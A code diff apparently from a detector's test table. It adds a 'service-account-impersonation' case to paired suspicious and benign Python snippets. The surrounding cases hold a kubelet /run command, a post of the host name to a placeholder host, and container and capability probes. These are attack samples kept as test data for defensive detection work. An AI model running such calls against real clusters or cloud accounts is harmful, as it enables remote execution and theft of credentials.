@@ -115,6 +115,11 @@ requests.post("http://host.example.invalid/in", json={"n": platform.node()})
     {"kubelet-access", "",
      "import requests\nrequests.post('https://192.0.2.4:10250/run/ns/pod/c', data='cmd=id')\n",
      "import requests\nrequests.get('https://192.0.2.4:10250/metrics')\n"},
+    {"service-account-impersonation", "",
+     "import "
+     "requests\nrequests.post('https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/"
+     "x:generateAccessToken')\n",
+     "import google.auth\ngoogle.auth.default()\n"},
     {"container-probe", "", "import os\nos.path.exists('/.dockerenv')\n",
      "import os\nos.path.exists('/x')\n"},
     {"capability-probe", "", "import os\nos.system('capsh --print')\n", "import os\nos.system('id')\n"},
